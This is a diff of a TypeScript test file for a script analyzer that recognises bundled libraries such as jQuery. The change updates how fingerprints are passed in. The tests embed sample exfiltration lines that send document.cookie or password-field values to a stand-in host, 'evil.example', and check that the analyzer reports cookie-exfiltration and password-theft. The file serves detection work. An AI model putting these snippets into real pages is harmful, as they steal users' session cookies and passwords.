@@ -42,11 +42,11 @@ const FINGERPRINTS = known(`(function (module, exports, require) {${MODULE}\n})`
 function leftOf(code: string): { readonly text: string; readonly packages: readonly string[] } {
 	const read = parseSource({ code });
 	if (!read.ok) throw new Error(read.message);
-	const { text, libraries } = withoutBundledLibraries(read.source, FINGERPRINTS);
+	const { text, libraries } = withoutBundledLibraries(read.source, { fingerprints: FINGERPRINTS });
 	return { text: text.replace(/\s+/g, " ").trim(), packages: libraries.map(({ packageName }) => packageName) };
 }
 
-const rate = (code: string) => analyzeScript({ code: `${code}\n${PADDING}` }, FINGERPRINTS);
+const rate = (code: string) => analyzeScript({ code: `${code}\n${PADDING}` }, { fingerprints: FINGERPRINTS });
 const kinds = (code: string): readonly string[] => rate(code).vulnerabilities.map(({ type }) => type);
 
 describe("a module of a known package", () => {
@@ -114,7 +114,7 @@ describe("what a script does with a library", () => {
 		const code = `(function (data, tell) {${module}\n})(document.cookie, (text) => fetch("https://evil.example/" + text));`;
 		const { vulnerabilities } = analyzeScript(
 			{ code: `${code}\n${PADDING}` },
-			known(`(function (data, tell) {${module}\n})`),
+			{ fingerprints: known(`(function (data, tell) {${module}\n})`) },
 		);
 		expect(vulnerabilities.map(({ type }) => type)).toContain("cookie-exfiltration");
 	});
@@ -132,7 +132,7 @@ describe("jQuery, whose functions the analyzer knows", () => {
 		${use}
 		${PADDING}`;
 	const jQuery = known(`(function (module, exports, require) {${MODULE}\n})`, "jquery");
-	const rateBundle = (module: string, use: string) => analyzeScript({ code: bundle(module, use) }, jQuery);
+	const rateBundle = (module: string, use: string) => analyzeScript({ code: bundle(module, use) }, { fingerprints: jQuery });
 
 	test("what a script sends by it is found", () => {
 		const use = "$.post('https://evil.example/', { text: document.cookie });";
@@ -144,7 +144,7 @@ describe("jQuery, whose functions the analyzer knows", () => {
 		["returns", `(function (root, factory) { root.$ = factory(root); })(window, function (module) {${MODULE}\n});`],
 	])("what the script reads by the jQuery that a module %s is found", (_, code) => {
 		const use = "fetch('https://evil.example/', { method: 'POST', body: $('input[type=password]').val() });";
-		const { vulnerabilities } = analyzeScript({ code: `${code}\n${use}\n${PADDING}` }, jQuery);
+		const { vulnerabilities } = analyzeScript({ code: `${code}\n${use}\n${PADDING}` }, { fingerprints: jQuery });
 		expect(vulnerabilities.map(({ type }) => type)).toContain("password-theft");
 	});
 
